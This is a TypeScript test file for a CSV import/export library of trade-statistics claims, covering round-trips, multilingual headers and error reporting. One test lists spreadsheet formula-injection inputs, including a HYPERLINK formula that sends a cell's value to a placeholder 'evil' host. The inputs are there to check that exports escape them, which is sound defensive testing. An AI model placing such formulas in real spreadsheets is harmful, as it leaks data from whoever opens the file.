import { readFileSync } from 'node:fs'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { readClaimsCsv, writeClaimsCsv } from '@/lib/import/claims-csv'
import { WORDINGS, type Claim } from '@/lib/trade/claims/claim'
import { FLOWS } from '@/lib/trade/flow'

const seed = readFileSync(new URL('../../prisma/seed/claims.csv', import.meta.url), 'utf8')
const read = (text: string): Claim[] => readClaimsCsv(text).claims.map(({ claim }) => claim)

const HEADER = 'reporter,partner,flow,period,change,said_by,published_by,date'
const ROW = 'RUS,MAR,T,2021,+42%,A minister,A paper,2022-03-09'
const found = (text: string): string[] =>
  readClaimsCsv(text).problems.map(({ line, column, code }) => `${line} ${column ?? '-'} ${code}`)

test('the 23 seeded claims come out and back in as they are', () => {
  const claims = read(seed)
  expect(claims.length).toBe(23)
  expect(read(writeClaimsCsv(claims))).toEqual(claims)
})

const anyText = fc
  .string({
    minLength: 1,
    maxLength: 40,
    unit: fc.constantFrom('a', 'ß', ' ', ',', ';', '"', "'", '\n', '=', '-', '%', 'й', '|', '1'),
  })
  .map((text) => `x${text}x`)

const anyClaim: fc.Arbitrary<Claim> = fc.record(
  {
    id: fc.stringMatching(/^[a-z]{1,8}-[0-9]{1,4}$/),
    reporter: fc.constant('RUS'),
    partner: fc.constantFrom('MAR', 'RU-MOW', 'WLD'),
    flow: fc.constantFrom(...FLOWS),
    product: fc.constantFrom('TOTAL', 'energy', '01', '8703'),
    period: fc.constantFrom('2021', '2025-S1', '2024-Q3', '2024-07', '2025-01/P9M'),
    against: fc.constant(null),
    change: fc.constantFrom('+42%', '-9.7%', 'x2', '/2', '+42.0%', '+0%', '+8.7pp', '-1/3'),
    level: fc.constantFrom(null, '1600000000', '0.5', '123456789012345678.01'),
    levelTo: fc.constant(null),
    levelDigits: fc.constant(null),
    unit: fc.constant('USD'),
    balance: fc.constant(null),
    wording: fc.constantFrom(...WORDINGS),
    changeWording: fc.constant(null),
    saidBy: anyText,
    publishedBy: anyText,
    date: fc.constantFrom('2022', '2022-03', '2022-03-09'),
    url: fc.constantFrom(null, 'https://example.org/a,b?c=%22'),
    note: fc.option(anyText),
  },
  { noNullPrototype: true },
)

test('any claims written as a table read back as the same claims', () => {
  fc.assert(
    fc.property(fc.uniqueArray(anyClaim, { selector: ({ id }) => id, minLength: 1, maxLength: 5 }), (claims) => {
      const { claims: back, problems } = readClaimsCsv(writeClaimsCsv(claims))
      expect(problems).toEqual([])
      expect(back.map(({ claim }) => claim)).toEqual(claims)
    }),
  )
})

test('a range of levels comes out and back in with both ends', () => {
  const [claim] = read(`${HEADER.replace('change', 'level,unit')}\n${ROW.replace('+42%', '1.2–1.3 bn,USD')}\n`)
  expect([claim?.level, claim?.levelTo]).toEqual(['1200000000', '1300000000'])
  expect(read(writeClaimsCsv([claim!]))).toEqual([claim])
})

test('headers are read without regard to case, blanks and order, delimiters are found, names are understood', () => {
  const [claim] = read(
    '\ufeffSaid By;PUBLISHER;Date;Reporter;Partner;Flow;Period;Compared with;Change;Hedge\nA;B;2022;Russia;Marokko;Exporte;1. Halbjahr 2022;H1 2021;x2;nearly\n',
  )
  expect(claim).toMatchObject({
    reporter: 'RUS',
    partner: 'MAR',
    flow: 'X',
    period: '2022-S1',
    against: '2021-S1',
    change: 'x2',
    wording: 'almost',
    saidBy: 'A',
  })
})

test('a column that claims do not have is named, not passed over in silence', () => {
  expect(readClaimsCsv(`${HEADER},mood\n${ROW},good\n`).ignored).toEqual(['mood'])
})

test('what is wrong is told with its line, its column as it stands there, and its rule', () => {
  const table = `${HEADER.replace('said_by', 'Said By')},url\n${ROW},\nRUS,MAR,Z,2021,lots,,A paper,2022,\n\nRUS,Atlantis,T,20211,+1%,A,"B ""quoted""\nover two lines",2022,ftp://x\n`
  expect(found(table)).toEqual([
    ...['3 flow flow', '3 change change', '3 Said By required'],
    ...['5 partner area', '5 period period', '5 url url'],
  ])
})

test.each([
  ['', '1 - empty-table'],
  [`${HEADER}\n`, '1 - empty-table'],
  [`${HEADER.replace('flow,', '')}\nRUS,MAR,2021,+42%,A,B,2022\n`, '1 flow missing-column'],
  [`${HEADER},Reporter\n${ROW},RUS\n`, '1 reporter repeated-column'],
  [`${HEADER}\nRUS,MAR,T,2021,+42%,A minister, of trade,A paper,2022\n`, '2 - number-of-cells'],
  [`${HEADER}\nRUS,MAR,T\n`, '2 - number-of-cells'],
  [`${HEADER},note\n${ROW},"open\n`, '2 note unclosed-quote'],
  [`id,${HEADER}\na-claim,${ROW}\na-claim,${ROW}\n`, '3 id id-twice'],
])('%j: %s', (text, expected) => {
  expect(found(text)).toEqual([expected])
})

test('what a spreadsheet would compute is written with an apostrophe, which goes when it is read again', () => {
  const [claim] = read(`${HEADER}\n${ROW}\n`)
  for (const text of ['=HYPERLINK("http://evil/?"&A1)', '@SUM(A1)', '+cmd', '- stable', "'=1+1", "''@x", "'tis", '-5'])
    for (const field of ['saidBy', 'publishedBy', 'note'] as const) {
      const table = writeClaimsCsv([{ ...claim!, [field]: text }])
      expect(read(table)).toEqual([{ ...claim!, [field]: text }])
      // A number with its sign is none of these.
      if (text !== '-5') expect(table).not.toMatch(/(?:^|,|")[=@]|,"?[+-](?=[a-z ])/m)
    }
})

test('rows without an id get one from what they say', () => {
  const { claims } = readClaimsCsv(`${HEADER}\n${ROW}\n${ROW.replace('42', '43')}\n`)
  expect(claims.map(({ claim, named }) => [claim.id, named])).toEqual([
    ['rus-mar-total-2021', false],
    ['rus-mar-total-2021', false],
  ])
})
